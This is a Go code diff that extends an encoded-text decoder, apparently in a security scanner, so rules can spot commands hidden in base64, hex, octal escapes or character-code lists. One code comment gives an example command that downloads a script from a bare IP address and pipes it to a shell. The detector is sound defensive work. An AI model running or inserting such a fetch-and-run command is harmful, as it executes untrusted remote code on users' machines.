@@ -69,6 +69,24 @@ func Decode(texts []Text) []Finding {
 	return out
 }
 
+// Decodings returns what the encoded runs of s decode to, for rules to be
+// matched against: base64, base32, hex, percent encoding, HTML entities,
+// backslash escapes (octal ones too), followed through up to MaxLayers
+// nested layers as Decode does, and lists of character codes handed to a
+// decoding function ([char[]](99,117,...), String.fromCharCode(...),
+// chr(99).chr(117)...). Unlike Decode it keeps every printable decoding,
+// not only those that read as prose, and reports no findings: a command
+// that arrives encoded is the command it decodes to, and the rules say
+// what that is. Each string is at most MaxDecoded bytes; work is bounded.
+func Decodings(s string) []string {
+	d := &decoder{budget: MaxDecodedPerRun, loose: true}
+	var out []string
+	for _, sp := range d.spans(s, 1) {
+		out = append(out, clip(sp.decoded, MaxDecoded))
+	}
+	return append(out, charCodes(s)...)
+}
+
 // Disguised reports only the disguised text in each text: zero-width and
 // bidi control characters (ENCODED-007, ENCODED-008) and mixed-script
 // homoglyph words (ENCODED-009), as Decode does, without looking for
@@ -92,6 +110,10 @@ func disguised(t Text) []Finding {
 
 type decoder struct {
 	budget int // decoded bytes left
+	// loose keeps every printable decoding of a base64, base32 or hex run,
+	// not only those that read as prose, and reads octal escapes too:
+	// Decodings, whose caller matches rules against what comes out.
+	loose bool
 }
 
 // span is a decoded region of a string: [start,end) decodes, through the
@@ -212,13 +234,17 @@ func (d *decoder) run(s string, i, depth int) (span, bool) {
 	if len(body) < minEncodedRun {
 		return span{start: i, end: end}, false
 	}
+	accept := meaningful
+	if d.loose {
+		accept = commandText
+	}
 	hexBody := body
 	if len(hexBody) > 2 && hexBody[0] == '0' && (hexBody[1] == 'x' || hexBody[1] == 'X') {
 		hexBody = hexBody[2:]
 	}
 	if len(hexBody) >= minEncodedRun && len(hexBody)%2 == 0 && allBytes(hexBody, isHexDigit) {
 		if b, err := hex.DecodeString(hexBody); err == nil {
-			if sp, ok := d.finish(i, end, "hex", string(b), depth, meaningful); ok {
+			if sp, ok := d.finish(i, end, "hex", string(b), depth, accept); ok {
 				return sp, true
 			}
 		}
@@ -229,7 +255,7 @@ func (d *decoder) run(s string, i, depth int) (span, bool) {
 			padded += strings.Repeat("=", 8-r)
 		}
 		if b, err := base32.StdEncoding.DecodeString(padded); err == nil {
-			if sp, ok := d.finish(i, end, "base32", string(b), depth, meaningful); ok {
+			if sp, ok := d.finish(i, end, "base32", string(b), depth, accept); ok {
 				return sp, true
 			}
 		}
@@ -239,7 +265,7 @@ func (d *decoder) run(s string, i, depth int) (span, bool) {
 		norm = norm[:len(norm)-1]
 	}
 	if b, err := base64.RawStdEncoding.DecodeString(norm); err == nil {
-		if sp, ok := d.finish(i, end, "base64", string(b), depth, meaningful); ok {
+		if sp, ok := d.finish(i, end, "base64", string(b), depth, accept); ok {
 			return sp, true
 		}
 	}
@@ -447,7 +473,7 @@ func (d *decoder) escapes(s string, i, depth int) (span, bool) {
 	var isByte bool
 	end := -1 // where the last escape ended
 	r := cluster(s, i, func(j int) (n int, alnum bool) {
-		n, v, isByte = escapeAt(s, j)
+		n, v, isByte = escapeAt(s, j, d.loose)
 		return n, n > 0 && v < utf8.RuneSelf && isAlnum(byte(v))
 	}, func(j, n int) bool {
 		if end >= 0 {
@@ -471,12 +497,19 @@ func (d *decoder) escapes(s string, i, depth int) (span, bool) {
 }
 
 // escapeAt returns the length of the escape at s[j:] (0 if none), its
-// value, and whether it is a byte (\x) rather than a code point.
-func escapeAt(s string, j int) (int, rune, bool) {
+// value, and whether it is a byte (\x, octal) rather than a code point.
+// Octal escapes (\143) are read only when octal is set: in prose and
+// Windows paths (C:\data\101) they are too easily met by chance.
+func escapeAt(s string, j int, octal bool) (int, rune, bool) {
 	if j+1 >= len(s) || s[j] != '\\' {
 		return 0, 0, false
 	}
 	switch s[j+1] {
+	case '0', '1', '2', '3':
+		if octal && j+3 < len(s) && isOctal(s[j+2]) && isOctal(s[j+3]) {
+			v, _ := strconv.ParseUint(s[j+1:j+4], 8, 8)
+			return 4, rune(v), true
+		}
 	case 'x':
 		if j+3 < len(s) && isHexDigit(s[j+2]) && isHexDigit(s[j+3]) {
 			v, _ := strconv.ParseUint(s[j+2:j+4], 16, 8)
@@ -504,7 +537,26 @@ func escapeAt(s string, j int) (int, rune, bool) {
 	return 0, 0, false
 }
 
+func isOctal(c byte) bool { return '0' <= c && c <= '7' }
+
 // --- what counts as text ---
+
+// commandText is Decodings' test of a decoding: printable, four bytes or
+// more, with two letters at least. Whether it means anything is for the
+// rules matched against it to say: "curl -s http://45.61.137.22/x | sh"
+// has too few letters for meaningful.
+func commandText(s string) bool {
+	if len(s) < 4 || !printable(s) {
+		return false
+	}
+	letters := 0
+	for i := 0; i < len(s) && letters < 2; i++ {
+		if isLetterByte(s[i]) {
+			letters++
+		}
+	}
+	return letters >= 2
+}
 
 // printable reports whether s is valid UTF-8 and at least 95% printable
 // (graphic runes, spaces, tabs and newlines), with no NUL.
